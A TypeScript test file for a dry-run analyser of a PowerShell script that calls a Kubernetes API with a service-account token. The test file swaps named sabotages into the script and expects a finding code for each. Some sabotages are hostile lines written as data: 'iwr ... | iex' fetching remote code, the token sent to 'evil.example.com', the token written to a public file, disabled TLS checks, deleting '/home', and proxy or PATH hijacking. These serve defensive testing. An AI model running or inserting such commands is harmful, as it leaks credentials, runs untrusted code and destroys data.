/** Named sabotages of a script that is proved: each is found, with its code, on its line. */
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { portion } from '../../support/size.js';
import { dryRun } from './dry-run.js';

const script = `# Call the API.
Set-StrictMode -Version Latest
$ErrorActionPreference = 'Stop'
$global:LASTEXITCODE = 0
$OutputEncoding = New-Object System.Text.ASCIIEncoding
$work = [IO.Path]::Combine([IO.Path]::GetTempPath(), 'api-' + [IO.Path]::GetRandomFileName())
try {
    $null = [IO.Directory]::CreateDirectory($work, [IO.UnixFileMode]448)
    $curl = @(Get-Command curl.exe, curl -CommandType Application -ErrorAction SilentlyContinue)[0].Source
    $context = 'lab'
    $apiserver = [string](& kubectl config view --minify "--context=$context" -o 'jsonpath={.clusters[0].cluster.server}')
    if ($LASTEXITCODE -ne 0 -or [string]::IsNullOrWhiteSpace($apiserver)) { throw 'no server' }
    $data = [string](& kubectl config view --minify --raw --flatten "--context=$context" -o 'jsonpath={.clusters[0].cluster.certificate-authority-data}')
    [IO.File]::WriteAllBytes("$work/ca.crt", [Convert]::FromBase64String($data))
    $token = [string](& kubectl create token default "--context=$context" '--namespace=default')
    if ($LASTEXITCODE -ne 0 -or [string]::IsNullOrWhiteSpace($token)) { throw 'no token' }
    if ($token -cnotmatch '\\A[A-Za-z0-9._~+/=-]+\\z') { throw 'no usable token' }
    $status = [string]("header = \`"Authorization: Bearer $token\`"" |
        & $curl --disable --config - --request GET "$apiserver/api" --cacert "$work/ca.crt" --capath "$work/ca.crt" --silent --show-error --max-time 60 --output "$work/response" --write-out '%{http_code}')
    if ($LASTEXITCODE -ne 0) { throw 'curl could not call the server' }
    if (Test-Path -LiteralPath "$work/response") { [IO.File]::ReadAllText("$work/response") }
    switch -Wildcard ($status) {
        '2*' { break }
        '401' { throw '401 Unauthorized' }
        default { throw "HTTP $status" }
    }
    $attempt = 0
    while ($true) {
        $left = [string](& kubectl get secret old-token "--context=$context" --ignore-not-found -o name)
        if ($LASTEXITCODE -eq 0 -and -not $left) { break }
        $attempt = $attempt + 1
        if ($attempt -ge 30) { throw 'it is still there' }
        Start-Sleep -Seconds 1
    }
} catch {
    [Console]::Error.WriteLine('error: ' + $_.Exception.Message)
    exit 1
} finally {
    if (Test-Path -LiteralPath $work) { Remove-Item -LiteralPath $work -Recurse -Force }
}
`;

/** [from, to, code, a piece of the line that the finding stands on (of `to`, where it is left out)] */
type Sabotage = readonly [from: string, to: string, code: string, on?: string];

const curlLine = '& $curl --disable';
const request = '--config - --request';
const create = `create token default "--context=$context"`;

const sabotages: Readonly<Record<string, Sabotage>> = {
  'the token of another cluster': [create, `create token default '--context=prod'`, 'KS4101', curlLine],
  'the server of another cluster': [
    'view --minify "--context=$context" -o',
    `view --minify --context=prod -o`,
    'KS4101',
    curlLine,
  ],
  'the CA of another cluster': [
    '--flatten "--context=$context"',
    '--flatten --context=prod',
    'KS5005',
    curlLine,
  ],
  'a context that does not exist': [`$context = 'lab'`, `$context = 'labb'`, 'KS4003', '$apiserver = '],
  'a placeholder left in': [`$context = 'lab'`, `$context = '<your-context>'`, 'KS4003', '$apiserver = '],
  'the token is printed': [
    '[IO.File]::ReadAllText("$work/response")',
    '$token',
    'KS5103',
    'Test-Path -LiteralPath "$work/response"',
  ],
  'the token goes to the host': [
    '[IO.File]::ReadAllText("$work/response")',
    'Write-Host "token: $token"',
    'KS5103',
  ],
  'the token goes to the log on stderr': [`'error: ' + $_.Exception.Message`, '"error: $token"', 'KS5103'],
  'the token is a warning': ['$attempt = 0', 'Write-Warning $token', 'KS5103'],
  'a verbose kubectl': ['create token default', 'create token default --v=9', 'KS5103'],
  'the token as an argument': [request, '--header "Authorization: Bearer $token" --request', 'KS5101'],
  'the token for oauth2-bearer': [request, '--oauth2-bearer "$token" --request', 'KS5101'],
  'the token in the URL': ['"$apiserver/api"', '"$apiserver/api?access_token=$token"', 'KS5102'],
  'the token in a public file': ['$attempt = 0', `[IO.File]::WriteAllText('token.txt', $token)`, 'KS5104'],
  'the folder is open to all': [
    ', [IO.UnixFileMode]448)',
    ')\n    [IO.File]::WriteAllText("$work/t", "x")\n    $token = kubectl create token default --context=lab\n    [IO.File]::WriteAllText("$work/t", $token)',
    'KS5104',
    '$work/t", $token',
  ],
  '-k': ['--disable --config', '--disable -k --config', 'KS5003'],
  '--insecure': ['--cacert "$work/ca.crt"', '--insecure', 'KS5003'],
  'an option of the configuration': ['Bearer $token`""', 'Bearer $token`"`ninsecure"', 'KS5003', curlLine],
  'no CA': ['--cacert "$work/ca.crt" ', '', 'KS5005', curlLine],
  'a CA that is not written yet': ['--cacert "$work/ca.crt"', '--cacert "$work/CA.crt"', 'KS5006'],
  http: ['"$apiserver/api"', `'http://127.0.0.1:6443/api'`, 'KS5002'],
  'an address without a scheme': ['"$apiserver/api"', `'127.0.0.1:6443/api'`, 'KS5002'],
  'an address of someone else': ['"$apiserver/api"', `'https://evil.example.com/api'`, 'KS5106', curlLine],
  'redirects with the token': ['--silent', '--location --silent', 'KS5004'],
  'an option of curl that is none': ['--show-error', '--show-eror', 'KS3301'],
  'a value that is missing': [`--write-out '%{http_code}'`, '--write-out', 'KS3302'],
  'an option of kubectl that is none': ['--ignore-not-found', '--ignore-notfound', 'KS3301'],
  'a template without braces': [
    `'jsonpath={.clusters[0].cluster.server}'`,
    `'jsonpath=.clusters[0].cluster.server'`,
    'KS4002',
  ],
  'a broken template': ['{.clusters[0].cluster.server}', '{.clusters[0.cluster.server}', 'KS4001'],
  'a field that is not there': ['.cluster.server}', '.cluster.servr}', 'KS4004'],
  'redacted data': ['--minify --raw --flatten', '--minify', 'KS4005', '$data = '],
  'a variable with a spelling mistake': ['Bearer $token`"', 'Bearer $tokn`"', 'KS2001'],
  'a variable out of another shell': ['"$apiserver/api"', '"$APISERVR/api"', 'KS2001'],
  'a bare variable': ['"$apiserver/api"', '$apiserver/api', 'KS2103'],
  'a pattern outside of quotes': [`'%{http_code}'`, 'code*', 'KS2102'],
  'an empty argument': ['--max-time 60', `--max-time 60 ''`, 'KS2301'],
  'a double quote in an argument': [`'%{http_code}'`, `'"%{http_code}"'`, 'KS2301'],
  'a backslash at the end': [`'%{http_code}'`, `'%{http_code} \\'`, 'KS2301'],
  'an encoding with a mark': [
    'New-Object System.Text.ASCIIEncoding',
    '[Text.Encoding]::UTF8',
    'KS2301',
    curlLine,
  ],
  'the alias curl': ['& $curl', 'curl', 'KS3112', 'curl --disable'],
  'another command': ['Start-Sleep -Seconds 1', 'Restart-Computer', 'KS3102'],
  'a name that is made at run time': ['Start-Sleep -Seconds 1', '& $status get pods', 'KS3101'],
  'code out of a text': ['Start-Sleep -Seconds 1', 'Invoke-Expression $status', 'KS3111'],
  'code out of the web': ['Start-Sleep -Seconds 1', 'iwr https://get.example.com/x.ps1 | iex', 'KS3111'],
  'another script': ['Start-Sleep -Seconds 1', '. ./functions.ps1', 'KS3111'],
  'a job': ['Start-Sleep -Seconds 1', 'Start-Job { kubectl get nodes }', 'KS3111'],
  PATH: [`$context = 'lab'`, `$context = 'lab'; $env:PATH = "/x:$env:PATH"`, 'KS3103'],
  'a proxy for everything': [`$context = 'lab'`, `$context = 'lab'; $env:HTTPS_PROXY = 'http://x'`, 'KS3103'],
  'removing a folder of someone else': [
    'Remove-Item -LiteralPath $work',
    `Remove-Item -LiteralPath '/home'`,
    'KS3110',
  ],
  'removing all of the folder above': [
    'Remove-Item -LiteralPath $work',
    'Remove-Item -LiteralPath "$work/.."',
    'KS3110',
  ],
  'a loop without an end': [
    "if ($attempt -ge 30) { throw 'it is still there' }",
    '',
    'KS3108',
    'while ($true)',
  ],
  'an alias of some systems': ['Start-Sleep -Seconds 1', 'sleep 1', 'KS3102'],
  'a parameter that is none': ['-Seconds 1', '-Minutes 1', 'KS3301'],
  'smart quotes around a hidden mark': [`'no server'`, `'no\u200bserver'`, 'KS1002'],
  'characters beyond ASCII without a mark': [`'no server'`, `'kein Ñ'`, 'KS1002'],
  'no end of the script': ['} finally {', '} finally', 'KS1001', 'if (Test-Path -LiteralPath $work)'],
  'a trap': ['$attempt = 0', 'trap { continue }', 'KS3106'],
  'errors of programs that throw': [
    `$context = 'lab'`,
    `$context = 'lab'; $PSNativeCommandUseErrorActionPreference = $true`,
    'KS1003',
  ],
  'preferences of all cmdlets': [
    `$context = 'lab'`,
    `$context = 'lab'; $PSDefaultParameterValues = @{ '*:Force' = $true }`,
    'KS1003',
  ],
  'a global variable': [`$context = 'lab'`, `$global:context = 'lab'`, 'KS1003'],
  'the alias kubectl': [`$context = 'lab'`, `$context = 'lab'; Set-Alias kubectl curl`, 'KS3102'],
};

const lineOf = (text: string, piece: string): number => text.slice(0, text.indexOf(piece)).split('\n').length;

test('the script itself is proved', async () => {
  const report = await dryRun(script);
  assert.deepEqual(
    report.findings.filter((finding) => finding.severity !== 'info'),
    [],
  );
  assert.equal(report.verdict, 'proved');
  assert.deepEqual(
    report.requests.map(({ method, url, headers, tls, cluster }) => ({
      method,
      url,
      headers,
      tls: tls.kind,
      cluster,
    })),
    [
      {
        method: 'GET',
        url: 'https://127.0.0.1:6443/api',
        headers: { Authorization: 'Bearer «token of ServiceAccount default/default, from line 15»' },
        tls: 'kubeconfig-ca',
        cluster: 'lab',
      },
    ],
  );
});

for (const [name, [from, to, code, on = to]] of portion(Object.entries(sabotages), 20)) {
  test(name, async () => {
    assert.ok(script.includes(from), `the script has no ${from}`);
    const text = script.replace(from, () => to);
    const report = await dryRun(text);
    const found = report.findings.filter((finding) => finding.severity !== 'info');
    const line = lineOf(text, on);
    const lines = on.split('\n').length;
    assert.ok(
      found.some((finding) => finding.code === code && finding.line >= line && finding.line < line + lines),
      `${code} on line ${line}, among ${JSON.stringify(found.map((one) => `${one.line}:${one.column} ${one.code} ${one.message}`))}`,
    );
    assert.notEqual(report.verdict, 'proved');
  });
}
